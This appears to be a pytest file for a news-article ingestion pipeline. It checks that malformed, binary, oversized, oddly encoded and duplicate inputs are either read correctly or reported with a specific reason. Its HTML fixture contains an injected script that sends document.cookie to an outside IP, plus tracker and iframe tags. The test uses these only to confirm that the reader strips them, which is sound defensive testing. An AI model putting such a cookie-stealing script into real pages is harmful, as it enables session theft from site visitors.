"""Nasty inputs, written by the tests themselves: each is read correctly or gets a specific problem.

``NASTY`` lists every input kind with what it must produce: ``"read"`` (with the article ids
expected) or the ``problems`` reason(s). The same corpus, plus a copy of the sample article,
then goes through the whole pipeline, in-process and through the CLI: the run exits 0, every
good article is analysed and every bad input is listed with its reason.
"""

import shutil
import struct
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest

from helpers import articles, pipeline
from helpers.paths import ARTICLES, ROOT

SAMPLE = ARTICLES / "istanbul_talks.txt"
CP1252_TEXT = "Talks resume in Geneva\n\nThe envoy said the talks were \u201cuseful\u201d and cost \u20ac5 million \u2014 \u2018for now\u2019.\n"
UTF16_TEXT = "Talks resume\n\n\u201cWe are ready,\u201d the minister said. Na\u00efve? \u041d\u0435\u0442.\n"
HUGE_LINE = "The delegations met again and said that the talks were useful, according to officials.\n"
DATA_URI_CHARS = 4_000_000


def _png() -> bytes:
    chunk = b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + b"\x00\x00\x00\x00IEND\xaeB`\x82"


def _pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\nxref\ntrailer << >>\n%%EOF\n"


def _text_of_size(path: Path, size: int) -> None:
    """A real text file of exactly ``size`` bytes."""
    line = HUGE_LINE.encode()
    with open(path, "wb") as fh:
        fh.write(b"Huge report\n\n")
        remaining = size - len(b"Huge report\n\n")
        block = line * (1_048_576 // len(line))
        while remaining > len(block):
            fh.write(block)
            remaining -= len(block)
        fh.write((line * (remaining // len(line) + 1))[:remaining])


def _html(data_uri_chars: int = DATA_URI_CHARS) -> str:
    data_uri = "data:image/png;base64," + "iVBORw0KGgo" * (data_uri_chars // 11)
    return f"""<!doctype html><html><head><title>Envoys meet in Geneva</title>
<script>document.write('INJECTED'); fetch('http://203.0.113.9/steal?c=' + document.cookie);</script>
<script src="http://203.0.113.9/tracker.js"></script>
<link rel="stylesheet" href="http://203.0.113.9/style.css"><style>body {{ color: red }}</style></head>
<body><nav>Home | World | Europe</nav><article><h1>Envoys meet in Geneva</h1>
<p>The envoys met on Tuesday. \u201cWe will keep talking,\u201d the spokeswoman said after the meeting.</p>
<iframe src="http://203.0.113.9/frame.html">IFRAME TEXT</iframe>
<img src="{data_uri}" alt="a photo"><img src="http://203.0.113.9/pixel.png">
<p>Observers said the meeting lasted four hours and ended without a statement from either delegation.</p>
</article><script>alert('SCRIPT AT END')</script></body></html>"""


def _write(name: str, data: str | bytes) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return write


def _dangling(folder: Path) -> None:
    (folder / "gone.txt").symlink_to(folder / "no-such-target.txt")


def _huge(folder: Path) -> None:
    _text_of_size(folder / "huge.txt", articles.MAX_FILE_BYTES + 1)


# input kind -> (file written, writer, expected: {"read": [article ids]} and/or {"problems": [reasons]})
NASTY: dict[str, tuple[str, Callable[[Path], None], dict]] = {
    "empty file": ("empty.txt", _write("empty.txt", b""), {"problems": ["empty"]}),
    "whitespace only": ("blank.txt", _write("blank.txt", " \n\t\n \u00a0 \r\n"), {"problems": ["empty"]}),
    "PNG bytes renamed .txt": ("image.txt", _write("image.txt", _png()), {"problems": ["binary"]}),
    "PDF bytes renamed .txt": ("report.txt", _write("report.txt", _pdf()), {"problems": ["binary"]}),
    "text over MAX_FILE_BYTES (50 MiB + 1 byte)": ("huge.txt", _huge, {"problems": ["too large"]}),
    "UTF-16 with BOM": ("utf16.txt", _write("utf16.txt", UTF16_TEXT.encode("utf-16")), {"read": ["utf16"]}),
    "cp1252 with curly quotes and \u20ac": ("cp1252.txt", _write("cp1252.txt", CP1252_TEXT.encode("cp1252")),
                                            {"read": ["cp1252"]}),
    "HTML with scripts, iframe, 4 MB data: URI": ("page.html", _write("page.html", _html()), {"read": ["page"]}),
    "malformed JSON": ("broken.json", _write("broken.json", '{"title": "Talks", "text": "unterminated'),
                       {"problems": ["malformed json"]}),
    "JSONL with malformed and non-object lines": (
        "mixed.jsonl", _write("mixed.jsonl", '{"title": "Good line", "text": "A good record."}\n{not json}\n\n'
                                             '{"headline": "Second", "body": "Another good record."}\n[1, 2]\n'),
        {"read": ["mixed-0", "mixed-2"], "problems": ["malformed json", "no text field"]}),
    "CSV without a text column": ("nocol.csv", _write("nocol.csv", "foo,bar\n1,2\n"), {"problems": ["no text field"]}),
    "CSV with renamed columns": ("renamed.csv", _write("renamed.csv", "Headline,Body,Date\n"
                                                      "Renamed columns,The body is here.,2025-05-16\n"),
                                 {"read": ["renamed-0"]}),
    "CSV with a short row": ("short.csv", _write("short.csv", 'title,text\n"Row one","Body one."\n"Row two"\n'),
                             {"read": ["short-0"], "problems": ["empty"]}),
    "CSV with an unclosed quote": ("unclosed.csv", _write("unclosed.csv", 'title,text\n"Row one,"Body\n'),
                                   {"problems": ["empty"]}),
    "unsupported extension (.docx)": ("notes.docx", _write("notes.docx", b"PK\x03\x04 not really a docx"),
                                      {"problems": ["unsupported format"]}),
    "dangling symlink": ("gone.txt", _dangling, {"problems": ["unreadable"]}),
    "folder named like a file (x.txt/)": ("folder.txt/inner.txt",
                                          _write("folder.txt/inner.txt", "Inner article\n\nIt is read.\n"),
                                          {"read": ["inner"]}),
    "the sample article": ("istanbul_talks.txt", _write("istanbul_talks.txt", SAMPLE.read_bytes()),
                           {"read": ["istanbul_talks"]}),
    "duplicate under another name": ("istanbul_talks_copy.txt",
                                     _write("istanbul_talks_copy.txt", SAMPLE.read_bytes()),
                                     {"problems": ["duplicate"]}),
}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("nasty")
    for _, write, _ in NASTY.values():
        write(folder)
    return folder


def _reasons(problems: pd.DataFrame, folder: Path) -> dict[str, list[str]]:
    """File name (relative to ``folder``) -> sorted problem reasons."""
    out: dict[str, list[str]] = {}
    for path, reason in zip(problems["source_path"], problems["reason"]):
        out.setdefault(Path(path).absolute().relative_to(folder.absolute()).as_posix(), []).append(reason)
    return {k: sorted(v) for k, v in out.items()}


def _expected_reasons() -> dict[str, list[str]]:
    return {name: sorted(want["problems"]) for name, _, want in NASTY.values() if "problems" in want}


def _expected_ids() -> list[str]:
    return sorted(i for _, _, want in NASTY.values() for i in want.get("read", []))


@pytest.mark.parametrize("kind", [k for k, (_, _, want) in NASTY.items() if "duplicate" not in want.get("problems", [])])
def test_each_input_is_read_or_gets_its_reason(kind, corpus):
    name, _, want = NASTY[kind]
    rows, problems = articles.read_file(corpus / name)
    assert sorted(r["article_id"] for r in rows) == sorted(want.get("read", []))
    assert sorted(p["reason"] for p in problems) == sorted(want.get("problems", []))
    assert all(p["detail"] for p in problems)


def test_decoded_texts_are_exact(corpus):
    assert articles.read_file(corpus / "cp1252.txt")[0][0]["text"] == CP1252_TEXT
    assert articles.read_file(corpus / "utf16.txt")[0][0]["text"] == UTF16_TEXT


def test_html_keeps_the_article_text_and_drops_scripts_frames_and_data(corpus):
    text = articles.read_file(corpus / "page.html")[0][0]["text"]
    assert "We will keep talking" in text and "without a statement from either delegation" in text
    for junk in ("INJECTED", "SCRIPT AT END", "IFRAME TEXT", "data:image", "iVBORw0KGgo", "203.0.113.9", "color: red"):
        assert junk not in text


def test_too_large_is_explained_and_reads_nothing(corpus):
    rows, problems = articles.read_file(corpus / "huge.txt")
    assert rows == [] and problems[0]["reason"] == "too large"
    assert f"{articles.MAX_FILE_BYTES:,}" in problems[0]["detail"]


def test_a_text_of_exactly_max_file_bytes_is_read(tmp_path):
    path = tmp_path / "at_limit.txt"
    _text_of_size(path, articles.MAX_FILE_BYTES)
    rows, problems = articles.read_file(path)
    assert problems == [] and len(rows) == 1
    assert rows[0]["n_chars"] == articles.MAX_FILE_BYTES and rows[0]["title"] == "Huge report"


def _check_run(frames: dict[str, pd.DataFrame], folder: Path) -> None:
    """Every good article analysed, every bad input listed with its expected reason."""
    arts = frames["articles"]
    assert sorted(arts["article_id"]) == _expected_ids()
    assert arts["article_id"].is_unique
    assert _reasons(frames["problems"], folder) == _expected_reasons()
    assert "pipeline_error" not in set(frames["problems"]["reason"])
    for aid in arts["article_id"]:
        assert (frames["sentences"]["article_id"] == aid).any(), f"{aid} has no sentences"
    assert (frames["quotes"]["article_id"] == "istanbul_talks").sum() > 0
    texts = dict(zip(arts["article_id"], arts["text"]))
    for name in ("paragraphs", "sentences", "quotes"):
        for aid, s, e, t in zip(*(frames[name][c] for c in ("article_id", "start", "end", "text"))):
            assert texts[aid][s:e] == t


def test_read_articles_lists_every_bad_input(corpus):
    arts, problems = pipeline.read_articles([corpus])
    assert sorted(arts["article_id"]) == _expected_ids()
    assert _reasons(problems, corpus) == _expected_reasons()


def test_pipeline_analyses_good_inputs_and_lists_bad_ones(corpus):
    _check_run(pipeline.analyze([corpus], cache=False), corpus)


def test_cli_exits_0_and_writes_every_frame(corpus, tmp_path):
    out = tmp_path / "out"
    run = subprocess.run([sys.executable, "-m", "helpers", "analyze", str(corpus), "--out", str(out), "--no-cache"],
                         cwd=ROOT, capture_output=True, text=True, timeout=600)
    assert run.returncode == 0, run.stderr
    frames = pipeline.read_output(out)
    _check_run(frames, corpus)
    assert f"{len(_expected_ids())} articles" in run.stdout
    assert f"{sum(map(len, _expected_reasons().values()))} problems" in run.stdout


def test_a_file_removed_between_listing_and_reading_is_reported(tmp_path, monkeypatch):
    for i in range(3):
        (tmp_path / f"item{i}.txt").write_text(f"Title {i}\n\nThe minister said that round {i} went well.\n")
    listed = pipeline.list_files

    def list_then_remove(paths):
        files = listed(paths)
        files[1].unlink()
        return files

    monkeypatch.setattr(pipeline, "list_files", list_then_remove)
    frames = pipeline.analyze([tmp_path], cache=False)
    assert sorted(frames["articles"]["article_id"]) == ["item0", "item2"]
    assert frames["problems"][["article_id", "reason"]].values.tolist() == [["item1", "not found"]]


def test_same_file_name_in_two_folders_keeps_articles_apart(tmp_path):
    """Scraped sites often hold many ``index.html``: ids must stay unique, rows must not mix."""
    for folder, body in (("a", "The minister said that the talks were useful."), ("b", "Peskov said nothing changed.")):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "index.txt").write_text(f"Title {folder}\n\n{body}\n")
    frames = pipeline.analyze([tmp_path], cache=False)
    arts = frames["articles"]
    assert len(arts) == 2
    assert arts["article_id"].is_unique
    assert sorted(arts["article_id"]) == ["index", "index__2"]
    by_id = arts.set_index("article_id")
    assert "Peskov" in by_id.loc[by_id["source_path"].str.contains("/b/")].iloc[0]["text"]
    for _, q in frames["quotes"].iterrows():  # every quote lies in the text of its own article
        assert by_id.loc[q["article_id"], "text"][q["start"]:q["end"]] == q["text"]
